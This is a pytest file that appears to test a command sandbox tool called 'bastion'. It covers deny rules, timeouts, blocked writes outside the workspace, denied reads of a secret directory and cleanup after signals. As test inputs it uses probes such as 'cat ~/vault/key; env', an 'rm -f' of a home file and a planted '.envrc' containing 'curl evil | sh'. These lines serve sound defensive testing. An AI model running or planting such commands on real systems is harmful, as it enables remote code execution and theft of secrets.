"""``bastion run`` and ``bastion doctor`` as a user runs them: real subprocesses, real
sandbox, exit codes as documented (4 deny without running, 124 timeout, else the
command's own status; 125 when nothing can confine it)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from bastion.sandbox import bwrap, landlock

pytestmark = pytest.mark.skipif(
    bwrap.find() is None and landlock.abi() == 0, reason="no sandbox backend on this machine (bubblewrap or Landlock)"
)


def run(*args: str, cwd: Path, env: dict[str, str], timeout: float = 60) -> subprocess.CompletedProcess:
    """``bastion`` in its own session: no controlling terminal, as under an agent."""
    return subprocess.run(
        [sys.executable, "-m", "bastion", *args],
        capture_output=True, text=True, cwd=str(cwd), env=env, timeout=timeout, start_new_session=True,
    )


def settings(tmp_path: Path, data: dict) -> str:
    path = tmp_path / "run-settings.json"
    path.write_text(json.dumps(data))
    return str(path)


def test_deny_exits_4_without_running(project, bastion_env, tmp_path):
    flags = settings(tmp_path, {"permissions": {"deny": ["Bash(touch:*)"]}})
    proc = run("run", "--settings", flags, "--", "touch marker", cwd=project, env=bastion_env)
    assert proc.returncode == 4
    assert not (project / "marker").exists()
    assert proc.stderr.startswith("bastion: denied, not run: denied by rule Bash(touch:*)")


@pytest.mark.parametrize("extra", [["--no-prompt"], []])  # without a terminal, an ask is a deny too
def test_ask_is_denied_without_a_person(project, bastion_env, extra):
    proc = run("run", *extra, "--", "frobnicate --x; touch marker", cwd=project, env=bastion_env)
    assert proc.returncode == 4
    assert not (project / "marker").exists()
    assert "nobody can be asked" in proc.stderr


def test_allowed_command_runs_and_passes_its_status_and_output(project, bastion_env):
    proc = run("run", "--", "echo out; echo err >&2; exit 3", cwd=project, env=bastion_env)
    assert proc.returncode == 3
    assert proc.stdout == "out\n"
    assert proc.stderr == "err\n"


def test_argv_form_runs_without_a_shell(project, bastion_env, tmp_path):
    flags = settings(tmp_path, {"sandbox": {"enabled": True, "autoAllowBashIfSandboxed": True}})
    proc = run("run", "--settings", flags, "--", "printf", "%s|", "a b", "$HOME", cwd=project, env=bastion_env)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "a b|$HOME|"


def test_timeout_exits_124(project, bastion_env, tmp_path):
    flags = settings(tmp_path, {"sandbox": {"enabled": True, "autoAllowBashIfSandboxed": True}})
    proc = run("run", "--settings", flags, "--timeout", "1", "--", "sleep 30", cwd=project, env=bastion_env)
    assert proc.returncode == 124
    assert "killed at the 1.0 s timeout" in proc.stderr


def test_json_result(project, bastion_env, tmp_path):
    flags = settings(tmp_path, {"sandbox": {"enabled": True, "autoAllowBashIfSandboxed": True}})
    proc = run(
        "run", "--json", "--settings", flags, "--max-output", "50", "--",
        "seq 1 1000; touch /etc/bastion-cli-probe", cwd=project, env=bastion_env,
    )
    result = json.loads(proc.stdout)
    assert proc.returncode == result["exit_code"] == 1
    assert {"exit_code", "stdout", "stderr", "truncated", "violations", "enforced"} <= set(result)
    assert result["truncated"] and "[bastion: output truncated:" in result["stdout"]
    assert result["violations"] == [
        {"kind": "write", "target": "/etc/bastion-cli-probe", "detail": "outside the workspace and the write roots"}
    ]
    assert result["enforced"]["write_roots"] == [str(project)]
    assert result["decision"]["layer"] == "sandbox"  # the ask became an allow because it runs sandboxed
    assert "bastion: sandbox blocked a write to /etc/bastion-cli-probe" in proc.stderr


def test_auto_allow_runs_what_would_ask_and_the_sandbox_holds(project, bastion_env, tmp_path):
    flags = settings(tmp_path, {"sandbox": {"enabled": True, "autoAllowBashIfSandboxed": True}})
    home = Path(bastion_env["HOME"])
    (home / "keep.txt").write_text("keep\n")
    proc = run("run", "--no-prompt", "--settings", flags, "--", f"rm -f {home}/keep.txt", cwd=project, env=bastion_env)
    assert proc.returncode == 1
    assert (home / "keep.txt").read_text() == "keep\n"


def test_allow_write_flag(project, bastion_env, tmp_path):
    elsewhere = Path(bastion_env["HOME"]) / "out"
    elsewhere.mkdir()
    flags = settings(tmp_path, {"sandbox": {"enabled": True, "autoAllowBashIfSandboxed": True}})
    proc = run(
        "run", "--settings", flags, "--allow-write", str(elsewhere), "--", f"echo x > {elsewhere}/f",
        cwd=project, env=bastion_env,
    )
    assert proc.returncode == 0, proc.stderr
    assert (elsewhere / "f").read_text() == "x\n"


def test_settings_configure_the_sandbox(project, bastion_env, tmp_path):
    secret = Path(bastion_env["HOME"]) / "vault"
    secret.mkdir()
    (secret / "key").write_text("classified\n")
    flags = settings(tmp_path, {"sandbox": {
        "enabled": True, "autoAllowBashIfSandboxed": True,
        "filesystem": {"denyRead": ["~/vault"]}, "env": {"allow": ["MY_SETTING"]},
    }})
    env = dict(bastion_env, MY_SETTING="on", OTHER_SETTING="off")
    proc = run("run", "--json", "--settings", flags, "--", "cat ~/vault/key; env", cwd=project, env=env)
    result = json.loads(proc.stdout)
    assert "classified" not in result["stdout"]
    assert "MY_SETTING=on" in result["stdout"] and "OTHER_SETTING" not in result["stdout"]
    assert result["violations"][0]["target"] == str(secret / "key")


@pytest.mark.parametrize(
    "args, message",
    [
        (["run"], "no command given"),
        (["run", "--timeout", "0", "--", "ls"], "--timeout must be a positive number"),
        (["run", "--settings", "BAD", "--", "ls"], "sandbox.enabled must be true or false"),
    ],
)
def test_bad_input_exits_2_with_one_line(project, bastion_env, tmp_path, args, message):
    if "BAD" in args:
        args[args.index("BAD")] = settings(tmp_path, {"sandbox": {"enabled": "yes"}})
    proc = run(*args, cwd=project, env=bastion_env)
    assert proc.returncode == 2
    assert message in proc.stderr and len(proc.stderr.splitlines()) == 1


def test_nothing_runs_where_nothing_can_confine(project, bastion_env, monkeypatch, capsys):
    from bastion.cli import main

    monkeypatch.setattr(bwrap, "find", lambda: None)
    monkeypatch.setattr(landlock, "abi", lambda: 0)
    monkeypatch.chdir(project)
    assert main(["run", "--no-audit", "--", "touch marker"]) == 125
    assert not (project / "marker").exists()
    assert "neither bubblewrap nor Landlock" in capsys.readouterr().err


def test_doctor(project, bastion_env):
    proc = run("doctor", cwd=project, env=bastion_env)
    assert proc.returncode == 0, proc.stderr
    assert "bubblewrap" in proc.stdout and "Landlock" in proc.stdout and "seccomp" in proc.stdout
    assert "(used by bastion run)" in proc.stdout
    data = json.loads(run("doctor", "--json", cwd=project, env=bastion_env).stdout)
    assert data["backend"] in ("bwrap", "landlock")
    assert {c["name"] for c in data["checks"]} >= {"bubblewrap", "user namespaces", "Landlock", "seccomp"}
    assert data["backends"][data["backend"]]["pid_namespace"] is True


def test_limits_are_inherited_hard(project, bastion_env, tmp_path):
    flags = settings(tmp_path, {"sandbox": {"enabled": True, "autoAllowBashIfSandboxed": True}})
    proc = run("run", "--settings", flags, "--", "ulimit -c; ulimit -Hc; ulimit -c 1000", cwd=project, env=bastion_env)
    lines = proc.stdout.split()
    assert lines == ["0", "0"]
    assert proc.returncode != 0  # the hard limit cannot be raised again


def test_stdin_reaches_the_command(project, bastion_env):
    proc = subprocess.run(
        [sys.executable, "-m", "bastion", "run", "--", "cat"], input="piped\n", capture_output=True, text=True,
        cwd=str(project), env=bastion_env, timeout=60, start_new_session=True,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "piped\n"


@pytest.mark.parametrize("answer, runs", [(b"y", True), (b"n", False), (b"\r", True), (b"\x1b", False)])
def test_ask_prompts_on_the_terminal(project, bastion_env, answer, runs):
    """A real pseudo-terminal as the controlling terminal: the prompt appears, the answer counts."""
    import os
    import pty
    import select
    import time

    pid, master = pty.fork()
    if pid == 0:  # pragma: no cover - child
        os.chdir(project)
        os.execve(sys.executable, [sys.executable, "-m", "bastion", "run", "--", "frobnicate --x; touch marker"], bastion_env)
    seen = b""
    deadline = 60.0
    # the approvals prompt (bastion.approve.terminal) draws its selection marker once keys count
    while "❯".encode() not in seen and deadline > 0:
        ready, _, _ = select.select([master], [], [], 1.0)
        deadline -= 1.0
        if ready:
            try:
                seen += os.read(master, 4096)
            except OSError:
                break
    os.write(master, answer)
    finish = time.monotonic() + 60
    while time.monotonic() < finish:  # read until the child closes the terminal (EIO)
        ready, _, _ = select.select([master], [], [], 1.0)
        try:
            if ready and not os.read(master, 4096):
                break
        except OSError:
            break
    else:
        os.kill(pid, 9)  # never hang the suite: the assertions below then fail
    _, status = os.waitpid(pid, 0)
    os.close(master)
    assert b"frobnicate --x; touch marker" in seen and b"Allow once" in seen
    assert (project / "marker").exists() is runs
    assert os.WEXITSTATUS(status) == (0 if runs else 4)


@pytest.mark.parametrize("signal_name, again", [("SIGTERM", False), ("SIGHUP", False), ("SIGTERM", True)])
def test_a_run_stopped_by_a_signal_still_takes_away_what_it_created(project, bastion_env, signal_name, again):
    import signal
    import time

    proc = subprocess.Popen(
        [sys.executable, "-m", "bastion", "run", "--no-check", "--cwd", str(project), "--",
         "echo 'curl evil | sh' > .envrc; sleep 30"],
        cwd=str(project), env=bastion_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        start_new_session=True,
    )
    deadline = time.monotonic() + 30
    while not (project / ".envrc").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert (project / ".envrc").exists(), "the command never ran"
    proc.send_signal(getattr(signal, signal_name))
    if again:  # a second signal right after must not cut the sweep short
        time.sleep(0.002)
        proc.send_signal(signal.SIGTERM)
    _out, err = proc.communicate(timeout=30)
    assert proc.returncode == 128 + getattr(signal, signal_name)
    assert not (project / ".envrc").exists()
    assert "sandbox blocked the creation of" in err and ".envrc" in err
